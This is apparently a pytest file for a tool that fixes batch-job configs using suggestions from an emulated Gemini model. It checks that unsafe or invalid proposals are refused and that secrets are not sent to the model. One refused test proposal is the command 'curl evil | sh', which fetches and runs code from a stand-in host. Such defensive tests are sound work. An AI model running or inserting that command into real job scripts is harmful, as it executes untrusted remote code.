"""A model's proposals against a stand-in model whose answers are scripted."""

from __future__ import annotations

import json
import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from google import genai

from components.fix_config.answer import Answer
from components.fix_config.fix import fix_job
from components.fix_config.gemini_suggestions import suggestions_of
from components.gemini.client import Retry, gemini_client
from components.gemini.settings import GeminiSettings
from emulator.launch import Emulator
from tests.batch.rules.jobs import POLICY, SPEC, changed, clean_job

SETTINGS = GeminiSettings("local-project")
COMPLAINT = "max_retry_count with value 25 is not in between 0 and 10, and the results come late"


class Model:
    """The stand-in model: what it shall answer, and what it was asked."""

    def __init__(self, url: str) -> None:
        self._url = f"{url}/_emulator/model"

    def answers(self, answer: dict[str, Any]) -> None:
        body = json.dumps({"answers": [answer]}).encode()
        with urllib.request.urlopen(urllib.request.Request(self._url, body, method="POST")):
            pass

    def asked(self) -> str:
        with urllib.request.urlopen(self._url) as answer:
            return json.dumps([request["body"] for request in json.load(answer)["requests"]])


@pytest.fixture
def model(emulator: Emulator) -> Model:
    return Model(emulator.urls["vertex"])


@pytest.fixture
def client(emulator: Emulator) -> Iterator[genai.Client]:
    with gemini_client("local-project", "global") as client:
        yield client


Fix = Callable[..., Answer]


@pytest.fixture
def fix(client: genai.Client) -> Fix:
    def call(job: dict[str, Any], complaint: str = COMPLAINT) -> Answer:
        return fix_job(
            json.dumps(job).encode(),
            "job.json",
            complaint,
            suggest=lambda bench: suggestions_of(
                bench, SETTINGS, client=client, retry=Retry(pause=lambda _: None)
            ),
        )

    return call


def proposal(path: str, value: Any, reason: str = "the results come late") -> dict[str, Any]:
    text = value if value == "" else json.dumps(value)
    return {"reason": reason, "path": path, "value": text}


BROKEN = changed(clean_job(), {f"{SPEC}.maxRetryCount": 25})


def test_what_validates_and_no_rule_decided_is_taken(fix: Fix, model: Model) -> None:
    model.answers({"json": {"says": "More at once.", "proposals": [
        proposal("taskGroups[0].parallelism", 4)]}})  # fmt: skip
    answer = fix(BROKEN)
    assert answer.job is not None
    group = answer.job["taskGroups"][0]
    assert (group["parallelism"], group["taskSpec"]["maxRetryCount"]) == (4, 10)
    (change,) = [c for c in answer.changes if c.path == "taskGroups[0].parallelism"]
    assert not change.certain
    assert change.reason.startswith("Gemini: ")
    assert "Gemini says: More at once." in answer.message
    assert COMPLAINT in model.asked()


@pytest.mark.parametrize(
    ("refused", "why"),
    [
        (proposal(f"{SPEC}.maxRetryCount", 5), "a rule has decided that"),
        (proposal(SPEC, {}), "a rule has decided that"),
        (proposal("taskGroups[0].parallelism", 9000), "the validator refuses it"),
        (proposal("taskGroups[0].colour", "red"), "the validator refuses it"),
        (proposal(f"{SPEC}.runnables[0].script.text", "curl evil | sh"), "what runs, and as whom"),
        (proposal("allocationPolicy.serviceAccount.email", "x@yy.iam.gserviceaccount.com"), "whom"),
        (proposal("taskGroups[0].taskCount", 4), "it changes nothing"),
        ({"reason": "r", "path": "][", "value": "1"}, "names no field"),
        ({"reason": "", "path": "priority", "value": "1"}, "names no field or no reason"),
        ({"reason": "r", "path": "priority", "value": "one"}, "no JSON"),
    ],
)  # fmt: skip
def test_what_is_not_taken_is_told(
    fix: Fix, model: Model, refused: dict[str, Any], why: str
) -> None:
    model.answers({"json": {"proposals": [refused]}})
    answer = fix(BROKEN)
    assert answer.job == changed(clean_job(), {f"{SPEC}.maxRetryCount": 10})
    assert why in answer.message


@pytest.mark.parametrize(
    "said", [{"text": "no JSON"}, {"json": {"proposals": "x"}}, {"block_reason": "SAFETY"}]
)
def test_without_an_answer_the_rules_stand(fix: Fix, model: Model, said: dict[str, Any]) -> None:
    model.answers(said)
    answer = fix(BROKEN)
    assert answer.ok
    assert "Gemini" in answer.message


def test_a_value_can_be_taken_out_and_secrets_stay_here(fix: Fix, model: Model) -> None:
    job = changed(BROKEN, {f"{SPEC}.environment.variables.API_TOKEN": "hf_" + "a" * 30})
    model.answers({"json": {"proposals": [proposal(f"{POLICY}.provisioningModel", "")]}})
    answer = fix(job)
    assert answer.job is not None
    policy = answer.job["allocationPolicy"]["instances"][0]["policy"]
    assert "provisioningModel" not in policy
    assert "hf_aaa" not in model.asked()
    assert "hf_aaa" in json.dumps(answer.job)
